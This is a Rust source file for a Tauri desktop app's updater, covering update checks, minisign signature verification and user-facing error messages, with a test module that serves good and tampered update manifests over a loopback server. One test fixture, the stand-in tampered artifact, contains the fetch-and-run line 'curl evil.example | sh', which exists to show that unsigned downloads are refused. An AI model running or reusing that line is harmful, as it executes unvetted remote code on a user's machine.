//! "Check for updates" and "Install and restart", with tauri-plugin-updater: it reads the
//! release's `latest.json` from the endpoint in tauri.conf.json (the release workflow sets it) or
//! `ASHBY_SYNC_UPDATE_URL`, and checks the downloaded artifact's minisign signature against the
//! public key in tauri.conf.json. Nothing is downloaded until the user asks to install, nothing
//! is installed whose signature does not match, and the sync is stopped before installing
//! (`update::install_with_sync_stopped`).
//! <https://v2.tauri.app/plugin/updater/>

use crate::error::{AppError, AppResult, ErrorCode};
use crate::update::{is_newer, UpdateStatus};
use std::sync::Mutex;
use tauri::{AppHandle, Runtime};
use tauri_plugin_updater::{Update, UpdaterExt};

/// The update the last check found, kept for "Install and restart".
#[derive(Default)]
pub struct PendingUpdate(pub Mutex<Option<Update>>);

impl PendingUpdate {
    pub fn set(&self, u: Option<Update>) {
        if let Ok(mut g) = self.0.lock() {
            *g = u;
        }
    }
    pub fn take(&self) -> Option<Update> {
        self.0.lock().ok().and_then(|mut g| g.take())
    }
}

/// Asks the update server for the newest release. `endpoint` overrides tauri.conf.json's.
pub async fn check<R: Runtime>(
    app: &AppHandle<R>,
    endpoint: Option<&str>,
) -> AppResult<(UpdateStatus, Option<Update>)> {
    let mut builder = app.updater_builder();
    if let Some(url) = endpoint {
        let url = tauri::Url::parse(url).map_err(|e| {
            AppError::new(
                ErrorCode::InvalidSetting,
                format!("ASHBY_SYNC_UPDATE_URL is not a URL ({e}). Fix or unset it."),
            )
        })?;
        builder = builder.endpoints(vec![url]).map_err(map_error)?;
    }
    let updater = builder.build().map_err(map_error)?;
    let current = app.package_info().version.to_string();
    let found = updater.check().await.map_err(map_error)?;
    match found {
        // The plugin offers only newer versions; checked again here, so a manifest whose
        // version is not a version is reported instead of offered.
        Some(u) => match is_newer(&current, &u.version) {
            Some(true) => Ok((
                UpdateStatus::Available {
                    current,
                    version: u.version.clone(),
                    notes: u.body.clone().filter(|b| !b.trim().is_empty()),
                    date: u
                        .raw_json
                        .get("pub_date")
                        .and_then(|d| d.as_str())
                        .map(str::to_string),
                },
                Some(u),
            )),
            Some(false) => Ok((UpdateStatus::UpToDate { current }, None)),
            None => Err(AppError::new(
                ErrorCode::UpdateCheckFailed,
                format!(
                    "The update server announced \"{}\", which is not a version. Nothing was downloaded; try again later, or tell whoever runs the update server.",
                    u.version
                ),
            )),
        },
        None => Ok((UpdateStatus::UpToDate { current }, None)),
    }
}

/// Downloads the artifact and checks its signature; the bytes are returned only when it matches.
pub async fn download_verified(update: &Update) -> AppResult<Vec<u8>> {
    update.download(|_, _| {}, || {}).await.map_err(map_error)
}

/// Whether this copy can replace itself: one installed from a release package (.deb, .rpm,
/// AppImage, .msi, NSIS, the macOS app). A copy built from source has no package to update;
/// the updater would otherwise overwrite the running binary with the download.
pub fn installed_from_package() -> bool {
    tauri::utils::platform::bundle_type().is_some()
}

/// What each updater failure means to the user.
pub fn map_error(e: tauri_plugin_updater::Error) -> AppError {
    use tauri_plugin_updater::Error as E;
    let detail = e.to_string();
    match e {
        E::InsecureTransportProtocol => AppError::new(
            ErrorCode::UpdateUnavailable,
            "The update server's address does not start with https://, so Ashby Sync does not use it. Fix ASHBY_SYNC_UPDATE_URL or unset it.",
        ),
        E::EmptyEndpoints => AppError::new(
            ErrorCode::UpdateUnavailable,
            "This copy of Ashby Sync has no update server configured (copies from the release page have one). Download new versions from the release page, or set ASHBY_SYNC_UPDATE_URL.",
        ),
        E::Minisign(_)
        | E::Base64(_)
        | E::SignatureUtf8(_)
        | E::SignedVersionMismatch { .. }
        | E::MissingSignedVersion => AppError::new(
            ErrorCode::UpdateSignatureInvalid,
            format!("The downloaded update is not signed by Ashby Sync's release key ({detail}), so it was not installed. Your copy is unchanged. Try again later; if this keeps happening, tell IT: something between you and the update server may be changing downloads."),
        ),
        E::Reqwest(_) | E::Network(_) | E::ReleaseNotFound | E::Serialization(_)
        | E::TargetNotFound(_) | E::TargetsNotFound(_) | E::UrlParse(_) | E::Semver(_) => {
            AppError::new(
                ErrorCode::UpdateCheckFailed,
                format!("Could not get the update information ({detail}). Check the network connection and try again; on a company network, ask IT to allow the update server."),
            )
        }
        _ => AppError::new(
            ErrorCode::UpdateInstallFailed,
            format!("The update could not be installed ({detail}). Ashby Sync keeps running the current version; try again, or install the new version from the release page."),
        ),
    }
}

/// The real tauri-plugin-updater (on Tauri's mock runtime, no window) against a loopback HTTP
/// server serving `latest.json` and artifacts signed in the test with throw-away minisign keys,
/// in the format the Tauri CLI's `signer` writes (base64 of the minisign text files).
#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;
    use std::collections::HashMap;
    use std::sync::Arc;
    use tauri::test::{mock_builder, mock_context, noop_assets, MockRuntime};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    const CURRENT: &str = "1.4.0";
    const NEWER: &str = "1.5.0";
    const ARTIFACT: &[u8] = b"#!/bin/sh\necho 'Ashby Sync 1.5.0'\n";

    fn b64(s: &str) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    struct Keys(minisign::KeyPair);

    impl Keys {
        fn new() -> Keys {
            Keys(minisign::KeyPair::generate_unencrypted_keypair().unwrap())
        }
        /// tauri.conf.json's `plugins.updater.pubkey`.
        fn pubkey(&self) -> String {
            b64(&self.0.pk.to_box().unwrap().to_string())
        }
        /// A `.sig` file's content, as `latest.json` carries it.
        fn sign(&self, data: &[u8], version: &str) -> String {
            let trusted =
                format!("timestamp:1796205017\tfile:Ashby_Sync.AppImage\tversion:{version}");
            let sig = minisign::sign(
                Some(&self.0.pk),
                &self.0.sk,
                std::io::Cursor::new(data),
                Some(&trusted),
                Some("signature from tauri secret key"),
            )
            .unwrap();
            b64(&sig.to_string())
        }
    }

    /// Serves fixed bodies by path over HTTP/1.1 on 127.0.0.1; `routes` gets the server's base
    /// URL (the manifests point at its artifacts).
    async fn serve(routes: impl FnOnce(&str) -> HashMap<String, Vec<u8>>) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let routes = Arc::new(routes(&base));
        tokio::spawn(async move {
            loop {
                let Ok((mut sock, _)) = listener.accept().await else {
                    return;
                };
                let routes = routes.clone();
                tokio::spawn(async move {
                    let mut buf = Vec::new();
                    let mut chunk = [0u8; 4096];
                    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                        match sock.read(&mut chunk).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => buf.extend_from_slice(&chunk[..n]),
                        }
                    }
                    let head = String::from_utf8_lossy(&buf);
                    let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
                    let (status, body) = match routes.get(&path) {
                        Some(b) => ("200 OK", b.clone()),
                        None => ("404 Not Found", b"not found".to_vec()),
                    };
                    let head = format!(
                        "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    );
                    let _ = sock.write_all(head.as_bytes()).await;
                    let _ = sock.write_all(&body).await;
                });
            }
        });
        base
    }

    fn manifest(base: &str, version: &str, artifact: &str, signature: &str) -> Vec<u8> {
        let platform = format!("linux-{}", std::env::consts::ARCH);
        serde_json::to_vec(&serde_json::json!({
            "version": version,
            "notes": "Faster first sync.",
            "pub_date": "2026-12-01T10:00:00Z",
            "platforms": { platform: { "url": format!("{base}{artifact}"), "signature": signature } }
        }))
        .unwrap()
    }

    fn failed(r: AppResult<(UpdateStatus, Option<Update>)>) -> AppError {
        match r {
            Ok((status, _)) => panic!("expected an error, got {status:?}"),
            Err(e) => e,
        }
    }

    /// The app as the plugin sees it: version CURRENT, the given key, no endpoint built in.
    fn app(pubkey: &str) -> tauri::App<MockRuntime> {
        let mut ctx = mock_context(noop_assets());
        ctx.config_mut().plugins.0.insert(
            "updater".into(),
            serde_json::json!({ "pubkey": pubkey, "endpoints": [] }),
        );
        ctx.package_info_mut().version = CURRENT.parse().unwrap();
        mock_builder()
            .plugin(tauri_plugin_updater::Builder::new().build())
            .build(ctx)
            .unwrap()
    }

    #[test]
    fn reports_the_newer_version_and_accepts_only_a_matching_signature() {
        let release = Keys::new();
        let stranger = Keys::new();
        let app = app(&release.pubkey());
        let handle = app.handle().clone();
        tauri::async_runtime::block_on(async move {
            let good_sig = release.sign(ARTIFACT, NEWER);
            let base = serve(|base| {
                let m = |version: &str, artifact: &str, sig: &str| {
                    manifest(base, version, artifact, sig)
                };
                HashMap::from([
                    ("/artifact".into(), ARTIFACT.to_vec()),
                    (
                        "/tampered".into(),
                        b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
                    ),
                    ("/good/latest.json".into(), m(NEWER, "/artifact", &good_sig)),
                    (
                        "/other-key/latest.json".into(),
                        m(NEWER, "/artifact", &stranger.sign(ARTIFACT, NEWER)),
                    ),
                    (
                        "/tampered/latest.json".into(),
                        m(NEWER, "/tampered", &good_sig),
                    ),
                    (
                        "/older-signature/latest.json".into(),
                        m(NEWER, "/artifact", &release.sign(ARTIFACT, "1.3.0")),
                    ),
                    (
                        "/same/latest.json".into(),
                        m(CURRENT, "/artifact", &good_sig),
                    ),
                    (
                        "/nonsense/latest.json".into(),
                        m("latest", "/artifact", &good_sig),
                    ),
                ])
            })
            .await;
            let url = |p: &str| format!("{base}/{p}/latest.json");

            // 1. The check reads latest.json and reports the newer version; nothing downloaded.
            let (status, update) = check(&handle, Some(&url("good"))).await.unwrap();
            assert_eq!(
                status,
                UpdateStatus::Available {
                    current: CURRENT.into(),
                    version: NEWER.into(),
                    notes: Some("Faster first sync.".into()),
                    date: Some("2026-12-01T10:00:00Z".into()),
                }
            );
            // 2. Download + signature check: the good artifact comes back byte for byte.
            let bytes = download_verified(&update.unwrap()).await.unwrap();
            assert_eq!(bytes, ARTIFACT);

            // 3. Refused: signed by another key, bytes changed after signing, and a signature
            //    made for another release than the manifest announces.
            for case in ["other-key", "tampered", "older-signature"] {
                let (_, update) = check(&handle, Some(&url(case))).await.unwrap();
                let err = download_verified(&update.unwrap()).await.unwrap_err();
                assert_eq!(
                    err.code(),
                    ErrorCode::UpdateSignatureInvalid,
                    "{case}: {err}"
                );
                assert!(err.to_string().contains("was not installed"), "{err}");
            }

            // 4. The same version is no update; a version that is not one is an error.
            let (status, update) = check(&handle, Some(&url("same"))).await.unwrap();
            assert_eq!(
                status,
                UpdateStatus::UpToDate {
                    current: CURRENT.into()
                }
            );
            assert!(update.is_none());
            let err = failed(check(&handle, Some(&url("nonsense"))).await);
            assert_eq!(err.code(), ErrorCode::UpdateCheckFailed, "{err}");
            let err = failed(check(&handle, Some(&url("missing"))).await);
            assert_eq!(err.code(), ErrorCode::UpdateCheckFailed, "{err}");

            // 5. No endpoint built in and none set: said plainly.
            let err = failed(check(&handle, None).await);
            assert_eq!(err.code(), ErrorCode::UpdateUnavailable, "{err}");

            // 6. The install step. This test binary was not bundled, so the app's own command
            //    refuses to install (it would overwrite the running binary)...
            assert!(!installed_from_package());
            //    ...and the plugin's Linux install is run on a stand-in AppImage in a temp dir:
            //    it replaces that file with the verified download.
            let tmp = tempfile::tempdir().unwrap();
            let appimage = tmp.path().join("Ashby_Sync.AppImage");
            std::fs::write(&appimage, b"old version").unwrap();
            let updater = handle
                .updater_builder()
                .endpoints(vec![url("good").parse().unwrap()])
                .unwrap()
                .executable_path(&appimage)
                .build()
                .unwrap();
            let update = updater.check().await.unwrap().unwrap();
            let bytes = update.download(|_, _| {}, || {}).await.unwrap();
            update.install(&bytes).unwrap();
            assert_eq!(std::fs::read(&appimage).unwrap(), ARTIFACT);
        });
    }
}
